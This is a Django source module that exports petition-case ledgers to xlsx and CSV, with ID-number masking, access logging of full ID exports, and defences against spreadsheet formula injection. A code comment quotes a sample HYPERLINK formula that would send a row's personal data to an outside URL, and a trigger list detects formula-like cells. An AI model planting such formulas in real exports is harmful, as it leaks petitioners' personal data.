"""Ledgers (台账): case lists with chosen columns and filters, and their files.

A ledger is a ``values_list`` over the scoped, filtered cases with only the columns asked for
(the lead department as a correlated subquery, so still one query), read with a server-side
cursor (``.iterator(chunk_size=...)``) and written row by row: openpyxl's write-only mode for
.xlsx and ``csv`` with a BOM, so the worker's memory stays flat however many rows.

Apps above reports add columns through reports.hooks.register_ledger_columns: each carries the
factory of an expression correlated on the case (a Subquery count or sum), annotated only when
the column is chosen, so the ledger stays one query.

ID numbers are masked (the stored masked copy) unless the column ``id_number_full`` is chosen,
which needs a role allowed to reveal personal numbers (core.roles.PII_REVEAL_ROLES); every full
number written to a file is logged (core.PiiAccessLog, PIPL Art 28) in the same pass.
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import IO, Any

from django.db.models import OuterRef, QuerySet, Subquery
from django.utils.functional import Promise
from django.utils.translation import gettext as _
from django.utils.translation import gettext_lazy

from core import pii
from core.models import PiiAccessLog, User
from core.roles import PII_REVEAL_ROLES
from petitions.models import Case
from petitions.selectors import visible_cases_q
from petitions.states import CaseState
from routing.models import Assignment, AssignmentRole

from . import hooks
from .filters import CHINA_TZ, NOT_HANDLED_ASSIGNMENT_STATES, ReportFilters

Render = Callable[[Any], Any]


def _dt(value: datetime | None) -> datetime | None:
    # Excel has no time zones: local (Beijing) wall time, without tzinfo
    return value.astimezone(CHINA_TZ).replace(tzinfo=None) if value else None


def _yes_no(value: bool | None) -> str:
    return str(_("Yes")) if value else str(_("No"))


_STATE_LABELS = dict(CaseState.choices)


@dataclass(frozen=True)
class Column:
    code: str
    label: str | Promise
    source: str  # a field path for values_list, or an annotation name
    width: int
    render: Render | None = None
    pii_full: bool = False
    # Registered columns (reports.hooks): the expression annotated as ``source`` when the column
    # is chosen (a factory: expressions are not reused across querysets), and whether the ledger
    # page shows it beside the default columns.
    annotation: Callable[[], Any] | None = None
    screen: bool = False


COLUMNS: tuple[Column, ...] = (
    Column("number", gettext_lazy("Case number"), "number", 20),
    Column("registered_at", gettext_lazy("Registered at"), "registered_at", 18, _dt),
    Column("center", gettext_lazy("Center"), "center__name", 16),
    Column("channel", gettext_lazy("Channel"), "channel__name", 10),
    Column("purpose", gettext_lazy("Purpose"), "purpose__name", 10),
    Column("category", gettext_lazy("Content category"), "category__name", 16),
    Column("organ", gettext_lazy("Organ concerned"), "organ__name", 14),
    Column("petitioner", gettext_lazy("Petitioner"), "main_petitioner__name", 10),
    Column("id_number", gettext_lazy("ID number"), "main_petitioner__id_number_masked", 22),
    Column(
        "id_number_full",
        gettext_lazy("ID number (full)"),
        "main_petitioner__id_number_enc",
        22,
        pii.decrypt,
        pii_full=True,
    ),
    Column("phone", gettext_lazy("Phone"), "main_petitioner__phone_masked", 14),
    Column("headcount", gettext_lazy("Headcount"), "headcount", 8),
    Column("is_group", gettext_lazy("Group visit"), "is_group", 8, _yes_no),
    Column("is_skip_level", gettext_lazy("Skip-level"), "is_skip_level", 8, _yes_no),
    Column("is_law_related", gettext_lazy("Law/litigation-related"), "is_law_related", 10, _yes_no),
    Column("visit_count", gettext_lazy("Visits"), "visit_count", 8),
    Column("state", gettext_lazy("State"), "state", 14, lambda v: str(_STATE_LABELS.get(v, v))),
    Column("lead_department", gettext_lazy("Lead department"), "lead_department_name", 18),
    Column("next_due_at", gettext_lazy("Next deadline"), "next_due_at", 18, _dt),
    Column("closed_at", gettext_lazy("Closed at"), "closed_at", 18, _dt),
    Column("request", gettext_lazy("Request"), "request", 50),
    Column("outcome", gettext_lazy("Outcome"), "outcome", 30),
)
COLUMNS_BY_CODE = {c.code: c for c in COLUMNS}  # the built-in ones; all_columns() for every one


def all_columns() -> tuple[Column, ...]:
    """The built-in columns, then those registered by the apps above (reports.hooks)."""
    return COLUMNS + tuple(hooks.ledger_columns())


def columns_by_code() -> dict[str, Column]:
    return {c.code: c for c in all_columns()}


DEFAULT_COLUMNS = (
    "number",
    "registered_at",
    "center",
    "channel",
    "category",
    "petitioner",
    "id_number",
    "state",
    "lead_department",
    "next_due_at",
)
STATE_CHOICES = CaseState.choices


def may_export_full_ids(user: User) -> bool:
    return bool(user.is_superuser or user.role_codes & PII_REVEAL_ROLES)


def column_errors(codes: Sequence[str], user: User) -> list[str]:
    """Messages for columns that do not exist or that the user may not export."""
    errors = []
    if not codes:
        errors.append(_("Choose at least one column."))
    known = columns_by_code()
    unknown = [c for c in codes if c not in known]
    if unknown:
        errors.append(_("Unknown column: %(codes)s.") % {"codes": ", ".join(map(str, unknown))})
    if len(set(codes)) != len(codes):
        errors.append(_("A column is listed twice."))
    if "id_number_full" in codes and not may_export_full_ids(user):
        errors.append(_("Your role may not export full ID numbers."))
    return errors


def ledger_queryset(f: ReportFilters, *, states: Sequence[str] = ()) -> QuerySet[Case]:
    """The cases of the ledger: registered in the period, in scope, filtered; oldest first."""
    qs = Case.objects.filter(f.case_q(), registered_at__gte=f.since, registered_at__lt=f.until)
    if states:
        qs = qs.filter(state__in=states)
    return qs


def ledger_cases(
    *, viewer: User, filters: ReportFilters, states: Sequence[str] = ()
) -> QuerySet[Case]:
    """The ledger as the viewer may read it: the report scope and filters, and on top the
    viewer's own case visibility (a moved-away owner of an export sees less). The ledger page
    and the export job (reports.services.job_queryset) both read this, so the table on screen
    and the file hold the same cases."""
    qs = ledger_queryset(filters, states=states)
    visible = visible_cases_q(viewer)
    return qs if visible is None else qs.filter(visible)


def ledger_values(qs: QuerySet[Case], codes: Sequence[str]) -> QuerySet[Any]:
    """(case id, petitioner id, *the columns' raw values), oldest first: one query, whether
    iterated whole for a file or sliced for a page of the screen."""
    if "lead_department" in codes:
        qs = qs.annotate(
            lead_department_name=Subquery(
                Assignment.objects.filter(case_id=OuterRef("pk"), role=AssignmentRole.LEAD)
                .exclude(state__in=NOT_HANDLED_ASSIGNMENT_STATES)
                .order_by("-assigned_at", "-pk")
                .values("department__name")[:1]
            )
        )
    known = columns_by_code()
    for code in codes:
        factory = known[code].annotation
        if factory is not None:
            qs = qs.annotate(**{known[code].source: factory()})
    sources = [known[c].source for c in codes]
    # (registered_at, id) order: stable, and served by case_registered_idx read backwards
    return qs.order_by("registered_at", "pk").values_list("pk", "main_petitioner_id", *sources)


def render_row(columns: Sequence[Column], raw: Sequence[Any]) -> list[Any]:
    return [c.render(v) if c.render is not None else v for c, v in zip(columns, raw, strict=True)]


def ledger_rows(
    qs: QuerySet[Case], codes: Sequence[str], *, chunk_size: int = 2000
) -> Iterator[tuple[int, int, list[Any]]]:
    """(case id, petitioner id, rendered values) per case, from a server-side cursor."""
    known = columns_by_code()
    columns = [known[c] for c in codes]
    for row in ledger_values(qs, codes).iterator(chunk_size=chunk_size):
        yield row[0], row[1], render_row(columns, row[2:])


# What the ledger page shows on screen: the default columns without the long texts (the
# request and the outcome are in the file), ID numbers masked; then the registered columns
# marked for the screen (screen_columns()).
SCREEN_COLUMNS = tuple(c for c in DEFAULT_COLUMNS if not COLUMNS_BY_CODE[c].pii_full)
SCREEN_PAGE_SIZE = 50


def screen_columns() -> tuple[str, ...]:
    return SCREEN_COLUMNS + tuple(
        c.code for c in hooks.ledger_columns() if c.screen and not c.pii_full
    )


def screen_rows(
    raw_rows: Iterable[Sequence[Any]], codes: Sequence[str] | None = None
) -> list[dict[str, Any]]:
    """A page of ``ledger_values(qs, codes)`` (``codes`` by default screen_columns()) as
    {"pk", "cells": [(code, text)]}: dates as Beijing "YYYY-MM-DD HH:MM" like the CSV file,
    empty values as ""."""
    known = columns_by_code()
    columns = [known[c] for c in (screen_columns() if codes is None else codes)]
    out = []
    for raw in raw_rows:
        values = render_row(columns, raw[2:])
        cells = [
            (
                c.code,
                v.strftime("%Y-%m-%d %H:%M")
                if isinstance(v, datetime)
                else ("" if v is None else v),
            )
            for c, v in zip(columns, values, strict=True)
        ]
        out.append({"pk": raw[0], "cells": cells})
    return out


# Formula injection (OWASP "CSV injection"): Excel and LibreOffice read a cell whose text starts
# with one of these as a formula, so a petitioner's name or request such as
# =HYPERLINK("http://…/?d="&A2,"点击") would run in the office of whoever opens the ledger and
# send the row's personal data away. Tab and CR are on the list because some importers skip
# them and then see the "=". Text starting so is written as text: a text cell with Excel's quote
# prefix in xlsx (the text itself kept as typed), a leading apostrophe in CSV (which has no
# cell types).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """The value for a CSV cell: formula-like text with a leading apostrophe, the rest as is."""
    return "'" + value if is_formula_like(value) else value


class SafeCsvWriter:
    """``csv.writer`` that neutralises formula-like text in every cell (every CSV the reports
    write goes through it: ledgers and the league table)."""

    def __init__(self, handle: Any) -> None:
        self.writer = csv.writer(handle)

    def writerow(self, row: Iterable[Any]) -> None:
        self.writer.writerow([csv_safe(v) for v in row])


def headers(codes: Sequence[str]) -> list[str]:
    known = columns_by_code()
    return [str(known[c].label) for c in codes]


class LedgerWriter:
    """Writes rows to a file; ``close()`` finishes it."""

    def write(self, values: list[Any]) -> None:
        raise NotImplementedError

    def close(self) -> None:
        raise NotImplementedError


class XlsxWriter(LedgerWriter):
    """openpyxl write-only workbook: rows are streamed to a temporary XML file, not kept."""

    def __init__(self, path: Path, codes: Sequence[str], title: str) -> None:
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Alignment, Font, PatternFill
        from openpyxl.utils import get_column_letter

        self.path = path
        self.workbook = Workbook(write_only=True)
        self.sheet = self.workbook.create_sheet(title=title[:31])
        known = columns_by_code()
        # write-only sheets take column widths and panes before the first row
        for i, code in enumerate(codes, start=1):
            self.sheet.column_dimensions[get_column_letter(i)].width = known[code].width
        self.sheet.freeze_panes = "A2"
        bold = Font(bold=True)
        fill = PatternFill("solid", fgColor="DDE6F0")
        center = Alignment(horizontal="center", vertical="center")
        header_cells = []
        for label in headers(codes):
            cell = WriteOnlyCell(self.sheet, value=label)
            cell.font, cell.fill, cell.alignment = bold, fill, center
            header_cells.append(cell)
        self.sheet.append(header_cells)
        self.date_columns = {i for i, c in enumerate(codes) if known[c].render is _dt}
        self.WriteOnlyCell = WriteOnlyCell

    def write(self, values: list[Any]) -> None:
        values = list(values)
        for i in self.date_columns:
            if values[i] is not None:
                cell = self.WriteOnlyCell(self.sheet, value=values[i])
                cell.number_format = "yyyy-mm-dd hh:mm"
                values[i] = cell
        for i, value in enumerate(values):
            if is_formula_like(value):
                values[i] = self.text_cell(value)
        self.sheet.append(values)

    def text_cell(self, value: str) -> Any:
        # openpyxl makes any string starting with "=" a formula cell; a string cell ("s",
        # written as an inline string) never is, and the quote prefix keeps Excel from turning
        # it into one when the cell is edited.
        cell = self.WriteOnlyCell(self.sheet, value=value)
        cell.data_type = "s"
        cell.quotePrefix = True
        return cell

    def close(self) -> None:
        self.workbook.save(str(self.path))


class CsvWriter(LedgerWriter):
    """UTF-8 with a BOM, so Excel opens the Chinese correctly."""

    def __init__(self, path: Path, codes: Sequence[str]) -> None:
        self.handle: IO[str] = path.open("w", encoding="utf-8-sig", newline="")
        self.writer = SafeCsvWriter(self.handle)
        self.writer.writerow(headers(codes))

    def write(self, values: list[Any]) -> None:
        self.writer.writerow(
            [v.strftime("%Y-%m-%d %H:%M") if isinstance(v, datetime) else v for v in values]
        )

    def close(self) -> None:
        self.handle.close()


def log_full_id_exports(user: User, pairs: Sequence[tuple[int, int]]) -> None:
    """One access-log row per (case, petitioner) whose full ID number went into a file."""
    has_case = any(f.name == "case" for f in PiiAccessLog._meta.get_fields())
    PiiAccessLog.objects.bulk_create(
        [
            PiiAccessLog(
                user=user,
                petitioner_id=petitioner_id,
                field="id_number",
                **({"case_id": case_id} if has_case else {}),
            )
            for case_id, petitioner_id in pairs
        ]
    )
